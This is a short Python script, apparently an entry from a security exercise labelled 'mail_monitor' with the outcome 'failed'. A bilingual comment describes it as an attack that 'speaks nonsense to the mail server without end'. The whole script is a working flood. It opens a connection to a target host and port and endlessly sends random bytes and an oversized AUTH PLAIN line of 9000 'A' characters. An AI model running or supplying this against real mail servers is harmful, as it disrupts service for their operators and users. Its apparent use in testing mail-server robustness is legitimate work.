# attack: speaks nonsense to the mail server without end | 无休止地对邮件服务器胡言乱语
# exercise: mail_monitor
# outcome: failed
import os
import socket
import sys

with socket.create_connection((sys.argv[1], int(sys.argv[2]))) as s:
    while True:
        s.sendall(os.urandom(8192) + b"\r\nAUTH PLAIN " + b"A" * 9000 + b"\r\n")
